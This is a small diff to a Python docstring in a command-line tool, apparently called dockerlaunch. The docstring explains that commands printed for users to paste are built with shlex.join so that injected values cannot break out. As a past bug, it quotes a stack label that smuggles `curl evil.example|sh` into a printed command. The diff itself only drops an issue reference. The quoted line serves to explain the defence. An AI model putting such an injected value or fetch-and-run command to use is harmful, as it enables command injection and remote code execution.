@@ -1,7 +1,7 @@
 """Every command dockerlaunch prints for a user to paste (a `fix:`, a pointer to another command, advice such as
 `ssh-keygen -R ...`) is built by `command`: its words joined once with shlex.join, so no value in it (an image label
 read on a host, a config value, a host name) can end the command early or start another one. A stack label
-`x; curl evil.example|sh; :` once printed `dockerlaunch build --stack x; curl evil.example|sh; : ...` (issue 60).
+`x; curl evil.example|sh; :` once printed `dockerlaunch build --stack x; curl evil.example|sh; : ...`.
 
 Each printing site names itself with `hint=`, a literal id. The tests declare the ids whose printed command they run
 as printed (`@pytest.mark.hint(ID)`), or say why one cannot run here (tests/unit/test_hints.py NOT_RUNNABLE); that
